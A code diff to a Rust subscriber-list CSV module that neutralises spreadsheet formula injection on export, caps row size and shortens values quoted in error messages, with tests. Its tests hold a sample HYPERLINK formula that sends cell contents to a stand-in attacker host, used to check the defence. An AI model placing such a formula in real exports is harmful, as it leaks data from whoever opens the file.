@@ -20,8 +20,17 @@
 //! - Bytes that are not UTF-8 stop the whole import with the line they are on:
 //!   a file in another encoding would otherwise be imported garbled.
 //!
+//! - A row longer than [`MAX_ROW_BYTES`] is skipped unread (it is almost
+//!   surely an unclosed quote that swallowed the lines after it), and values
+//!   quoted in messages are cut to their first [`SHOWN_CHARS`] characters and
+//!   their length, so a runaway field cannot flood the terminal or a log.
+//!
 //! Writing: header `email,name,status`, quoted where needed, LF line ends, in
-//! the order given. Reading what was written gives the same rows back.
+//! the order given. A cell that a spreadsheet would run as a formula (one
+//! starting with `=`, `+`, `-`, `@`, a tab or a CR) is written with a leading
+//! `'`, which spreadsheets show as text ([`neutralise`]); reading removes it
+//! again ([`restore`]), so reading what was written gives the same rows back,
+//! for every value, one that starts with `'` included.
 
 use std::collections::HashMap;
 use std::io::Write;
@@ -52,7 +61,7 @@ pub enum CsvError {
     Empty,
     #[error(
         "the header has no `email` column (found: {}); the first line must name the columns, e.g. `email,name,status`",
-        .found.iter().map(|f| format!("{f:?}")).collect::<Vec<_>>().join(", ")
+        .found.iter().map(|f| shown(f)).collect::<Vec<_>>().join(", ")
     )]
     NoEmailColumn { found: Vec<String> },
     #[error("the header names the column `{name}` twice")]
@@ -63,6 +72,10 @@ pub enum CsvError {
     NotUtf8 { line: u64, byte: u8 },
     #[error("cannot read the file: {message}")]
     Read { line: u64, message: String },
+    #[error(
+        "a row of {bytes} bytes (at most {MAX_ROW_BYTES} are read); is a closing quote missing?"
+    )]
+    LongRow { line: u64, bytes: usize },
 }
 
 impl CsvError {
@@ -71,7 +84,9 @@ impl CsvError {
             CsvError::Empty | CsvError::NoEmailColumn { .. } | CsvError::DuplicateColumn { .. } => {
                 1
             }
-            CsvError::NotUtf8 { line, .. } | CsvError::Read { line, .. } => *line,
+            CsvError::NotUtf8 { line, .. }
+            | CsvError::Read { line, .. }
+            | CsvError::LongRow { line, .. } => *line,
         }
     }
 }
@@ -152,6 +167,57 @@ fn columns(header: &[&str]) -> Result<(Columns, Vec<String>), CsvError> {
 
 const STATUS_CHOICES: &str = "pending, active, unsubscribed or bounced";
 
+/// Longest row an import reads. An address is at most 254 bytes and a name
+/// 200 characters; the rest leaves room for other tools' extra columns.
+pub const MAX_ROW_BYTES: usize = 64 * 1024;
+
+/// How much of a value a message quotes.
+pub const SHOWN_CHARS: usize = 60;
+
+/// What a spreadsheet takes for the start of a formula.
+fn is_formula_start(c: char) -> bool {
+    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
+}
+
+/// Whether `s` is `'` repeated (zero or more times) before a formula start:
+/// those are the values [`neutralise`] prefixes, so that [`restore`] can
+/// tell its own `'` from one the value began with.
+fn quotes_then_formula(s: &str) -> bool {
+    s.trim_start_matches('\'').starts_with(is_formula_start)
+}
+
+/// A cell a spreadsheet shows as text: `'` before a value that starts like
+/// a formula, or like an already neutralised one (`'=...`, `''=...`); any
+/// other value as it is. [`restore`] undoes it exactly.
+pub fn neutralise(value: &str) -> std::borrow::Cow<'_, str> {
+    if quotes_then_formula(value) {
+        format!("'{value}").into()
+    } else {
+        value.into()
+    }
+}
+
+/// The inverse of [`neutralise`]: one leading `'` removed from `'=...`,
+/// `''=...`; anything else (a name such as `'Tis Jones` included) as it is.
+pub fn restore(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if quotes_then_formula(rest) => rest,
+        _ => cell,
+    }
+}
+
+/// A value for a message: quoted, and cut to its first [`SHOWN_CHARS`]
+/// characters and its length when longer.
+fn shown(value: &str) -> String {
+    let len = value.chars().count();
+    if len <= SHOWN_CHARS {
+        format!("{value:?}")
+    } else {
+        let head: String = value.chars().take(SHOWN_CHARS).collect();
+        format!("{head:?}... ({len} characters)")
+    }
+}
+
 /// Counts lines up to where each record starts. (The csv crate's own
 /// positions point just past the previous record's terminator, before any
 /// blank lines or the LF of a CRLF, so its line numbers drift.)
@@ -203,10 +269,16 @@ pub fn read(data: &[u8], smtputf8: bool) -> Result<CsvImport, CsvError> {
         return Err(CsvError::Empty);
     }
     let header_line = lines.of(&record);
+    if record.as_slice().len() > MAX_ROW_BYTES {
+        return Err(CsvError::LongRow {
+            line: header_line,
+            bytes: record.as_slice().len(),
+        });
+    }
     let header = decode(&record, header_line)?;
     let (cols, unknown) = columns(&header)?;
     if !unknown.is_empty() {
-        let names: Vec<String> = unknown.iter().map(|u| format!("{u:?}")).collect();
+        let names: Vec<String> = unknown.iter().map(|u| shown(u)).collect();
         out.warnings.push(LineNote {
             line: header_line,
             reason: format!(
@@ -225,6 +297,16 @@ pub fn read(data: &[u8], smtputf8: bool) -> Result<CsvImport, CsvError> {
     let mut seen: HashMap<String, u64> = HashMap::new();
     while reader.read_byte_record(&mut record).map_err(read_error)? {
         let line = lines.of(&record);
+        if record.as_slice().len() > MAX_ROW_BYTES {
+            out.skipped.push(LineNote {
+                line,
+                reason: format!(
+                    "a row of {} bytes, not read (at most {MAX_ROW_BYTES}); is a closing quote missing?",
+                    record.as_slice().len()
+                ),
+            });
+            continue;
+        }
         let fields = decode(&record, line)?;
         if fields.iter().all(|f| f.trim().is_empty()) {
             continue;
@@ -240,7 +322,8 @@ pub fn read(data: &[u8], smtputf8: bool) -> Result<CsvImport, CsvError> {
             });
             continue;
         }
-        let get = |i: Option<usize>| i.and_then(|i| fields.get(i)).copied().unwrap_or("");
+        let get =
+            |i: Option<usize>| restore(i.and_then(|i| fields.get(i)).copied().unwrap_or("").trim());
 
         let mut reasons = Vec::new();
         let raw_email = get(Some(cols.email));
@@ -251,7 +334,7 @@ pub fn read(data: &[u8], smtputf8: bool) -> Result<CsvImport, CsvError> {
             match SubscriberEmail::parse_new(raw_email, smtputf8) {
                 Ok(e) => Some(e),
                 Err(e) => {
-                    reasons.push(format!("invalid address {:?}: {e}", raw_email.trim()));
+                    reasons.push(format!("invalid address {}: {e}", shown(raw_email)));
                     None
                 }
             }
@@ -260,7 +343,7 @@ pub fn read(data: &[u8], smtputf8: bool) -> Result<CsvImport, CsvError> {
         let name = match SubscriberName::parse(raw_name) {
             Ok(n) => n,
             Err(e) => {
-                reasons.push(format!("invalid name {:?}: {e}", raw_name.trim()));
+                reasons.push(format!("invalid name {}: {e}", shown(raw_name)));
                 None
             }
         };
@@ -272,8 +355,8 @@ pub fn read(data: &[u8], smtputf8: bool) -> Result<CsvImport, CsvError> {
                 Some(s) => s,
                 None => {
                     reasons.push(format!(
-                        "bad status {:?} (expected {STATUS_CHOICES})",
-                        raw_status.trim()
+                        "bad status {} (expected {STATUS_CHOICES})",
+                        shown(raw_status)
                     ));
                     Status::Active
                 }
@@ -339,8 +422,8 @@ pub fn write<'a, W: Write>(
     w.write_record(["email", "name", "status"])?;
     for r in rows {
         w.write_record([
-            r.email.as_str(),
-            r.name.as_ref().map_or("", |n| n.as_str()),
+            neutralise(r.email.as_str()).as_ref(),
+            neutralise(r.name.as_ref().map_or("", |n| n.as_str())).as_ref(),
             r.status.as_str(),
         ])?;
     }
@@ -565,5 +648,143 @@ mod tests {
         assert_eq!(back.skipped, vec![]);
         let back: Vec<SubscriberRow> = back.rows.into_iter().map(|(_, r)| r).collect();
         assert_eq!(back, rows);
+    }
+
+    fn row(email: &str, name: &str) -> SubscriberRow {
+        SubscriberRow {
+            email: SubscriberEmail::parse(email).unwrap(),
+            name: SubscriberName::parse(name).unwrap(),
+            status: Status::Pending,
+        }
+    }
+
+    fn export(rows: &[SubscriberRow]) -> String {
+        let mut out = Vec::new();
+        write(&mut out, rows).unwrap();
+        String::from_utf8(out).unwrap()
+    }
+
+    /// The cells of the written file, as a spreadsheet receives them.
+    fn cells(text: &str) -> Vec<String> {
+        let mut r = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.as_bytes());
+        r.records()
+            .flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>())
+            .collect()
+    }
+
+    #[test]
+    fn no_exported_cell_starts_like_a_formula_and_each_reads_back() {
+        for trigger in ['=', '+', '-', '@', '\t', '\r'] {
+            for quotes in 0..4 {
+                for tail in [
+                    "",
+                    "1+2",
+                    "HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Open\")",
+                    "'x",
+                    " y",
+                ] {
+                    let value = format!("{}{trigger}{tail}", "'".repeat(quotes));
+                    let cell = neutralise(&value);
+                    assert!(!cell.starts_with(is_formula_start), "{value:?} -> {cell:?}");
+                    assert_eq!(cell, format!("'{value}"), "{value:?}");
+                    assert_eq!(restore(&cell), value, "{value:?}");
+                }
+            }
+        }
+        // What does not start like a formula is left alone, both ways.
+        for value in ["Ann", "'Tis Jones", "''", "'", "' =x", "x=1", "", "Zoë"] {
+            assert_eq!(neutralise(value), value);
+            assert_eq!(restore(value), value);
+        }
+        // Through the file: the public form's example, and an address.
+        let evil = "=HYPERLINK(\"https://evil.example/?leak=\"&A2&B3,\"Open\")";
+        let rows = vec![
+            row("ann@example.org", evil),
+            row("-x@example.org", "@SUM(A1)"),
+        ];
+        let text = export(&rows);
+        for cell in cells(&text) {
+            assert!(!cell.starts_with(is_formula_start), "{cell:?} in\n{text}");
+        }
+        let back: Vec<_> = read(text.as_bytes(), false)
+            .unwrap()
+            .rows
+            .into_iter()
+            .map(|(_, r)| r)
+            .collect();
+        assert_eq!(back, rows);
+    }
+
+    #[test]
+    fn export_import_export_is_exact_for_generated_names() {
+        // A fixed xorshift: the same names every run, many of them made of
+        // the characters that matter here.
+        let mut state = 0x9E37_79B9_7F4A_7C15_u64;
+        let mut next = move || {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            state
+        };
+        let alphabet: Vec<char> = "'=+-@ \",;|!Aaz0ZëΩ✓🙂".chars().collect();
+        let mut rows = Vec::new();
+        let mut formulas = 0;
+        while rows.len() < 5000 {
+            let len = 1 + (next() % 8) as usize;
+            let name: String = (0..len)
+                .map(|_| alphabet[(next() % alphabet.len() as u64) as usize])
+                .collect();
+            let Ok(Some(parsed)) = SubscriberName::parse(&name) else {
+                continue;
+            };
+            formulas += usize::from(quotes_then_formula(parsed.as_str()));
+            let email = format!("r{}@example.org", rows.len());
+            rows.push(SubscriberRow {
+                email: SubscriberEmail::parse(&email).unwrap(),
+                name: Some(parsed),
+                status: Status::Active,
+            });
+        }
+        assert!(
+            formulas > 1000,
+            "the names must exercise the escape: {formulas}"
+        );
+        let first = export(&rows);
+        let imported = read(first.as_bytes(), false).unwrap();
+        assert_eq!(imported.skipped, vec![]);
+        let back: Vec<_> = imported.rows.into_iter().map(|(_, r)| r).collect();
+        assert_eq!(back, rows);
+        assert_eq!(export(&back), first);
+    }
+
+    #[test]
+    fn a_huge_field_is_skipped_unread_and_quoted_briefly() {
+        // An unclosed quote swallows the rest of the file into one field.
+        let mut text = String::from("email,name\nann@example.org,\"Ann\n");
+        text.push_str(&"x".repeat(MAX_ROW_BYTES + 10));
+        text.push_str("\nbob@example.org,Bob\n");
+        let r = read(text.as_bytes(), false).unwrap();
+        assert_eq!(r.rows, vec![]);
+        assert_eq!(r.skipped.len(), 1);
+        assert!(
+            r.skipped[0].reason.starts_with("a row of "),
+            "{:?}",
+            r.skipped
+        );
+        assert!(r.skipped[0].reason.len() < 200, "{:?}", r.skipped);
+
+        // Under the row limit, a long bad value is quoted by its start and length.
+        let long = "y".repeat(1000);
+        let r = read(
+            format!("email,name,status\n{long}@,Ann,{long}\n").as_bytes(),
+            false,
+        )
+        .unwrap();
+        let reason = &r.skipped[0].reason;
+        assert!(reason.contains("... (1001 characters)"), "{reason}");
+        assert!(reason.contains("... (1000 characters)"), "{reason}");
+        assert!(reason.len() < 500, "{reason}");
     }
 }
